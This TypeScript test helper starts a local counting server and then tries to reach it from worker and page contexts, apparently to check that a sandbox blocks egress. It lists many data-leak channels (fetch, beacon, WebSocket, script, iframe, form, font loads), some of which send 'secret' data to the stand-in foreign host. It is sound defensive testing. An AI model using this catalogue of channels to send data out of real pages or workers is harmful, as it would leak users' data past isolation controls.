import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A host that is not ours: it answers everybody and counts who came. Another port is another origin. */
export async function foreignHost() {
	const visits: string[] = [];
	const server = createServer((request, response) => {
		visits.push(`${request.method} ${request.url}`);
		response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('0;');
	});
	server.on('upgrade', (request, socket) => {
		visits.push(`upgrade ${request.url}`);
		socket.destroy();
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	const { port } = server.address() as AddressInfo;
	return {
		host: `127.0.0.1:${port}`,
		visits,
		close: () => {
			server.closeAllConnections();
			return new Promise((resolve) => server.close(resolve));
		}
	};
}

/** What code that turned hostile tries from any thread: each channel asks for a path of its name. Returns the channels tried. */
export async function attemptFromAnyThread(host: string): Promise<string[]> {
	const url = (channel: string) => `http://${host}/${channel}`;
	const tried: Record<string, () => unknown> = {
		fetch: () => fetch(url('fetch'), { mode: 'no-cors' }),
		'fetch-post': () => fetch(url('fetch-post'), { method: 'POST', mode: 'no-cors', body: 'secret' }),
		xhr: () =>
			new Promise((resolve) => {
				const request = new XMLHttpRequest();
				request.onloadend = resolve;
				request.open('GET', url('xhr'));
				request.send();
			}),
		websocket: () =>
			new Promise((resolve) => {
				const socket = new WebSocket(`ws://${host}/websocket`);
				socket.onclose = socket.onerror = resolve;
			}),
		eventsource: () =>
			new Promise((resolve) => {
				const source = new EventSource(url('eventsource'));
				source.onerror = () => resolve(source.close());
			}),
		import: () => import(/* @vite-ignore */ url('import')),
		'nested-worker': () =>
			new Promise((resolve) => {
				const code = `fetch('${url('nested-worker')}', { mode: 'no-cors' }).finally(() => postMessage(0))`;
				const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
				worker.onmessage = worker.onerror = resolve;
			}),
		'import-scripts': () => (globalThis as unknown as { importScripts(url: string): void }).importScripts(url('import-scripts'))
	};
	const timeout = () => new Promise((resolve) => setTimeout(resolve, 1500));
	await Promise.all(
		Object.values(tried).map((attempt) => Promise.race([new Promise((resolve) => resolve(attempt())).catch(() => {}), timeout()]))
	);
	return Object.keys(tried);
}

/** What only a page can try. */
export async function attemptFromPage(host: string): Promise<string[]> {
	const url = (channel: string) => `http://${host}/${channel}`;
	const element = (tag: string, attributes: Record<string, string>) => () => {
		const made = document.createElement(tag);
		for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
		document.body.append(made);
	};
	const tried: Record<string, () => unknown> = {
		beacon: () => navigator.sendBeacon(url('beacon'), 'secret'),
		image: () => (new Image().src = url('image')),
		'image-element': element('img', { src: url('image-element') }),
		stylesheet: element('link', { rel: 'stylesheet', href: url('stylesheet') }),
		'style-url': element('div', { style: `background-image: url(${url('style-url')}); height: 9px` }),
		script: element('script', { src: url('script') }),
		frame: element('iframe', { src: url('frame') }),
		video: element('video', { src: url('video'), preload: 'auto' }),
		object: element('object', { data: url('object') }),
		manifest: element('link', { rel: 'manifest', href: url('manifest') }),
		form: () => {
			const form = document.createElement('form');
			Object.assign(form, { action: url('form'), method: 'post', target: '_blank' });
			document.body.append(form);
			form.submit();
		},
		font: async () => {
			const face = new FontFace('x', `url(${url('font')})`);
			await face.load();
		}
	};
	for (const attempt of Object.values(tried)) {
		try {
			await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 500))]);
		} catch {
			// refused: as it should be
		}
	}
	await new Promise((resolve) => setTimeout(resolve, 1000));
	return Object.keys(tried);
}
